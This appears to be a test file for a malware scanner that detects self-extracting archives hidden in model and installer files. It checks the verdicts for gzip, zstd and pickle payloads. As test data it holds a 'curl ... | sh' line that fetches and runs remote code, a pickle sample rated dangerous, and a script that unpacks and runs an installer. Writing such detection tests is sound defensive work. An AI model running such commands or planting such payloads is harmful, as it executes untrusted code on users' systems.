import * as assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { gzipSync, zstdCompressSync } from "node:zlib";
import { selfExtractingScanner } from "../../../../../core/scanner/formats/self_extracting/scanner.ts";
import { memorySource } from "../../../../../core/scanner/contract/source.ts";
import { GETPID_PICKLE } from "../archive/archive_scan.ts";
import { wholeScan } from "../../whole_scan.ts";
import { assertNeverThrows } from "../format_scan.ts";

const SCRIPT = `#!/bin/sh
echo "Unpacking"
tail -n +5 "$0" | tar xz && ./install.sh
exit 0
`;
const withData = (data: Uint8Array, script = SCRIPT) => Buffer.concat([Buffer.from(script), data]);
/** Data of which the compressed form has zero bytes. */
const PLAIN = Buffer.from("model ".repeat(500));

Deno.test("evasion 96: a script with an archive after it is a warning, and the archive is scanned", async (t) => {
  const rows: readonly (readonly [title: string, content: Uint8Array, inner: string])[] = [
    ["gzip", withData(gzipSync(GETPID_PICKLE)), "dangerous"],
    ["zstd", withData(zstdCompressSync(Buffer.concat([GETPID_PICKLE, PLAIN]))), "dangerous"],
    ["gzip of plain data", withData(gzipSync(PLAIN)), "suspicious"],
    [
      "a pickle",
      withData(Buffer.concat([Buffer.from("\x80\x04", "latin1"), GETPID_PICKLE])),
      "dangerous",
    ],
    ["zero bytes", withData(new Uint8Array(100)), "suspicious"],
    [
      "a script for Python",
      withData(gzipSync(PLAIN), "#!/usr/bin/env python3\nimport sys\n"),
      "suspicious",
    ],
  ];
  for (const [title, content, expected] of rows) {
    for (const name of ["install.run", "setup.sh", "model.bin", "model"]) {
      await t.step(`${title}, ${name}`, () => {
        const { verdict, findings } = wholeScan(name, content);
        assert.equal(verdict, expected);
        assert.ok(findings.some((it) => it.endsWith("Self-Extracting Archive")), findings.join());
      });
    }
  }
  await t.step("what its script does", () => {
    const script = "#!/bin/sh\ncurl -s https://example.org/x | sh\n";
    const { findings } = wholeScan("x.run", withData(gzipSync(PLAIN), script));
    assert.ok(findings.includes("warning S302 Script Content"), findings.join());
  });
});

Deno.test("C 16 scripts without data after them are no archives", () => {
  for (
    const text of [
      SCRIPT,
      `${SCRIPT}# caf\u00e9 \u00f8 \u{1f600}\n`,
      "echo\0",
      "#!/bin/sh\0\x01",
    ]
  ) {
    const source = memorySource(new TextEncoder().encode(text));
    assert.equal(selfExtractingScanner.matches({ source, name: "x.sh", depth: 0 }), false, text);
  }
});

Deno.test("C 15 no mutation of a script with data makes the scanner throw", () => {
  assertNeverThrows(selfExtractingScanner, [withData(gzipSync(PLAIN))], { mutations: 500 });
});
